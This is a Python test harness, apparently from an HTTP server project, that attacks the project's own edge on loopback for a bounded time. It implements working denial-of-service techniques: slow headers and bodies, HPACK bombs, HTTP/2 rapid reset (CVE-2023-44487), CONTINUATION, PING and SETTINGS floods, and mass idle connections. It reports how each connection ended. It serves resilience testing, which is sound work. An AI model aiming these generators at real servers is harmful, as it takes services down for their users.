"""Attacks on an edge, of a bounded size and time: `attackers.py NAME PORT SECONDS`, on loopback only.
Prints how many connections were made and how each ended, as JSON. A connection that the edge ends is
followed by a new one. attack.py starts this beside a load.
"""

import asyncio
import collections
import json
import pathlib
import resource
import socket
import struct
import sys
import time

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path[:0] = [str(ROOT / "tests/system"), str(ROOT / "demo")]
sys.dont_write_bytecode = True
import h2_wire as h2  # noqa: E402

HOST = "127.0.0.1"
HEAD = b"GET /1k.bin HTTP/1.1\r\nHost: bench\r\n"
PATIENCE_SECONDS = 3.0    # for the edge's last words
PIECE_BYTES = 64 << 10    # of a flood, before the other connections have their turn
PAUSE_SECONDS = 0.02      # between two connections of an attacker
IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h: connect() chooses the port, for its destination only
OPENING = h2.PREFACE + h2.frame(h2.SETTINGS)


def last_words(data):
    """How a connection ended, from what the edge said on it."""
    if data.startswith(b"HTTP/1.1 "):
        return data[9:12].decode()
    at = 0
    while at + 9 <= len(data):
        size, kind = int.from_bytes(data[at:at + 3], "big"), data[at + 3]
        if kind == h2.GOAWAY and at + 17 <= len(data):
            return f"GOAWAY {struct.unpack('!I', data[at + 13:at + 17])[0]}"
        at += 9 + size
    return "closed"


class Attack:
    """So many connections at a time; each sends `first`, and then what pieces() yields, one every
    `pause` seconds, until the edge ends it.
    """

    def __init__(self, connections, first, pieces, pause=0.0):
        self.connections, self.first, self.pieces, self.pause = connections, first, pieces, pause
        self.ended, self.made, self.sent = collections.Counter(), 0, 0

    async def one(self, port, until):
        said = b""

        async def listen(reader):
            nonlocal said
            while data := await reader.read(65536):
                said = (said + data)[-65536:] if not said.startswith(b"HTTP") else said

        try:
            reader, writer = await asyncio.open_connection(HOST, port)
        except OSError:
            self.ended["not accepted"] += 1
            return
        self.made += 1
        listening = asyncio.create_task(listen(reader))
        try:
            writer.write(self.first)
            for piece in self.pieces():
                if listening.done() or time.monotonic() > until:
                    break
                writer.write(piece)
                self.sent += len(piece)
                await writer.drain()
                await asyncio.sleep(self.pause)
            if time.monotonic() < until:
                await asyncio.wait([listening], timeout=PATIENCE_SECONDS)
        except OSError:
            pass
        # What was said before a reset may still be on its way to us.
        await asyncio.wait([listening], timeout=0.1)
        self.ended[last_words(said) if listening.done() else "still open"] += 1
        listening.cancel()
        await asyncio.gather(listening, return_exceptions=True)
        writer.transport.abort()

    async def run(self, port, seconds):
        until = time.monotonic() + seconds

        async def attacker():
            while time.monotonic() < until:
                await self.one(port, until)
                await asyncio.sleep(PAUSE_SECONDS)

        await asyncio.gather(*[attacker() for _ in range(self.connections)])
        return {"made": self.made, "sent_bytes": self.sent, "ended": dict(self.ended)}


def again(data, times=1 << 20):
    def pieces():
        for _ in range(times):
            yield data
    return pieces


def flood(frames):
    """One frame, or some, as often as fits in a piece."""
    return again(frames * max(1, PIECE_BYTES // len(frames)))


def resets():
    """Requests that are taken back at once (CVE-2023-44487)."""
    fields = h2.block(h2.get("/miss/1k.bin"))
    for first in range(1, 1 << 20, 1000):
        yield b"".join(h2.frame(h2.HEADERS, h2.WHOLE, stream, fields) + h2.rst_stream(stream)
                       for stream in range(first, first + 1000, 2))


def many_fields():
    yield b"".join(b"X-%d: 1\r\n" % number for number in range(5000))


def hpack_bombs():
    """A field of 4,000 octets, once, and then 16,000 times by its index of one octet."""
    fields = h2.block(h2.get("/miss/1k.bin")) + b"\x40" + h2.text("x") + h2.text("y" * 4000)
    yield h2.frame(h2.HEADERS, h2.END_STREAM, 1, fields)
    yield from again(h2.frame(h2.CONTINUATION, 0, 1, b"\xbe" * 16000))()


def continuations():
    yield h2.request(1, None, h2.END_STREAM)
    yield from flood(h2.frame(h2.CONTINUATION, 0, 1, h2.block([("x-pad", "y" * 50)])))()


def empty_continuations():
    yield h2.request(1, None, h2.END_STREAM)
    yield from flood(h2.frame(h2.CONTINUATION, 0, 1))()


POST = b"POST /silent HTTP/1.1\r\nHost: bench\r\nContent-Length: 100000\r\n\r\n"
ATTACKS = {
    "slow heads": lambda: Attack(1000, HEAD, again(b"X-A: b\r\n"), pause=1.0),
    "slow bodies": lambda: Attack(1000, POST, again(b"x"), pause=1.0),
    "large heads": lambda: Attack(16, HEAD + b"X-A: ", again(b"y" * PIECE_BYTES)),
    "many fields": lambda: Attack(16, HEAD, many_fields),
    "HPACK bombs": lambda: Attack(16, OPENING, hpack_bombs),
    "rapid reset": lambda: Attack(16, OPENING, resets),
    "CONTINUATION": lambda: Attack(16, OPENING, continuations),
    "empty CONTINUATION": lambda: Attack(16, OPENING, empty_continuations),
    "PING": lambda: Attack(16, OPENING, flood(h2.frame(h2.PING, 0, 0, b"12345678"))),
    "SETTINGS": lambda: Attack(16, OPENING, flood(h2.settings((4, 65535)))),
    "unknown frames": lambda: Attack(16, OPENING, flood(h2.frame(0xbb))),
}


def idle(port, count, source, seconds):
    """`count` connections that have asked once; they stay until standard input ends."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    kept, lost = [], 0
    until = time.monotonic() + seconds
    while len(kept) < count and lost < 100 and time.monotonic() < until:
        connection = socket.socket()
        connection.settimeout(5)
        connection.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        try:
            connection.bind((source, 0))
            connection.connect((HOST, port))
            connection.sendall(HEAD + b"\r\n")
            if not connection.recv(4096).startswith(b"HTTP/1.1 200"):
                raise ConnectionError
        except OSError:
            lost += 1
            connection.close()
            continue
        kept.append(connection)
    print(json.dumps({"kept": len(kept), "lost": lost}), flush=True)
    sys.stdin.read()


def main():
    name, port = sys.argv[1], int(sys.argv[2])
    if name == "idle":
        return idle(port, int(sys.argv[3]), sys.argv[4], 120)
    return print(json.dumps(asyncio.run(ATTACKS[name]().run(port, float(sys.argv[3])))))


if __name__ == "__main__":
    main()
